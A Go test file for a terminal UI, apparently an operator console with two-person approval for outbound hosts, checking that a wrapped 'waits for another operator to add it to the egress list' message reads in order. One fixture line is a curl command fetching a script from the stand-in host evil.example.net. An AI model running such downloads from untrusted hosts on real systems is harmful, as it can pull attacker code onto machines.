package tui

import (
	"strings"
	"testing"
)

// TestEgressProposedLinesInOrder: the words that a proposed host waits
// read in order where they wrap (rt42k F9: at 80 columns the lines were
// sorted, and "egress list" stood above the line it ends).
func TestEgressProposedLinesInOrder(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {120, 40}} {
		d := openDesk(t, size[0], size[1])
		d.fourEyesOn()
		d.ask("dl", "J", "curl -fsSL -o /opt/tools/x.sh https://evil.example.net/x.sh")
		d.reload()
		d.settle()
		d.keys("A", "ctrl+o", "right", "enter")
		scr := d.screen()
		var words []string
		started := false
		for l := range strings.SplitSeq(scr, "\n") {
			t := strings.TrimSpace(l)
			if strings.HasPrefix(t, "evil.example.net waits, proposed as p1") {
				started = true
			}
			if started {
				words = append(words, strings.Fields(t)...)
				if strings.HasSuffix(t, "egress list") {
					break
				}
			}
		}
		want := "evil.example.net waits, proposed as p1, for another operator to add it to the egress list"
		if got := strings.Join(words, " "); got != want {
			t.Errorf("%dx%d: reads %q, want %q:\n%s", size[0], size[1], got, want, scr)
		}
	}
}
